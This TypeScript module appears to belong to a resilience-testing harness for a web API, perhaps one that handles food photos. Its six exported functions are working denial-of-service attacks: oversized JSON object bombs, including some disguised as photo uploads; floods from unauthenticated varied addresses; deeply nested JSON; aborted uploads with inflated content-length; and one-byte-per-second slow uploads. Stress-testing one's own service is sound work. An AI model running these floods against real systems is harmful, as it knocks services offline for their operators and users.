import { setTimeout as sleep } from 'node:timers/promises';
import { burst, count, floodFor, open, send } from '../requests.ts';
import { type Attack, addressOf, type Outcome } from '../target.ts';

const MEGABYTE = 1_000_000;

/** 27 MB of empty objects in one array, twelve at a time. */
export const objectBombs: Attack = async ({ url, accounts }) => {
  const body = `{"action":"CREATE_ITEM","payload":{"z":[${'{},'.repeat(9 * MEGABYTE)}{}]}}`;
  const bombs = Array.from({ length: 12 }, (_, index) => accounts[index % accounts.length]);
  return burst(bombs.map((account) => () => send({ url, path: '/items', account, body })));
};

/** The same under the name of a photo. */
export const objectBombsAsPhotos: Attack = async ({ url, accounts, seconds }) => {
  const filling = '[],'.repeat(2 * MEGABYTE);
  const body = `{"action":"FOOD_RECOGNITION","payload":{"image":[${filling}[]],"mimeType":"image/jpeg"}}`;
  return floodFor(seconds, 4, (lane) =>
    send({ url, path: '/scan', account: accounts[lane % accounts.length], body }),
  );
};

/** A megabyte of empty arrays, signed out, to calls that exist and calls that don't. */
export const arraysFromStrangers: Attack = async ({ url, seconds, network }) => {
  const body = `[${'[],'.repeat(MEGABYTE / 3)}[]]`;
  const paths = ['/auth/login', '/v1/log/data', '/nothing/here', '/items', '/v1/support'];
  return floodFor(seconds, 8, (lane, round) =>
    send({
      url,
      path: paths[round % paths.length] ?? '/',
      account: { cookie: '', address: addressOf(network, lane) },
      body,
    }),
  );
};

/** Deeply nested JSON of a size that is allowed. */
export const deepJson: Attack = async ({ url, accounts, seconds }) => {
  const depth = 100_000;
  const body = `{"action":"CREATE_ITEM","payload":${'{"a":'.repeat(depth / 2)}1${'}'.repeat(depth / 2)}}`;
  return floodFor(seconds, 4, (lane) =>
    send({ url, path: '/items', account: accounts[lane % accounts.length], body }),
  );
};

/** Announces two megabytes, sends a little, and resets the connection; five times for every account. */
export const abortedUploads: Attack = async ({ url, accounts }) => {
  const outcome: Outcome = {};
  const aborts = accounts.flatMap((account) => Array.from({ length: 6 }, () => account));
  await Promise.all(
    aborts.map(async (account, index) => {
      const headers = { 'content-type': 'application/json', 'content-length': '2000000' };
      const sent = open({ url, path: '/scan', method: 'POST', account, headers }, (status) =>
        count(outcome, status),
      );
      if (index % 2) sent.write('{"action":"FOOD_RECOGNITION"');
      else sent.flushHeaders();
      await sleep(index % 3 ? 30 : 1);
      sent.destroy();
    }),
  );
  await sleep(500);
  return outcome;
};

/** Uploads that send one byte a second. */
export const slowUploads: Attack = async ({ url, accounts, seconds }) => {
  const outcome: Outcome = {};
  const uploads = accounts.flatMap((account) => Array.from({ length: 6 }, () => account));
  await Promise.all(
    uploads.map(async (account) => {
      let isOver = false;
      const headers = { 'content-type': 'application/json', 'content-length': '20000000' };
      const sent = open({ url, path: '/scan', method: 'POST', account, headers }, (status) => {
        isOver = true;
        count(outcome, status);
      });
      for (let second = 0; second < seconds && !isOver; second++) {
        sent.write(' ');
        await sleep(1000);
      }
      sent.destroy();
    }),
  );
  return outcome;
};
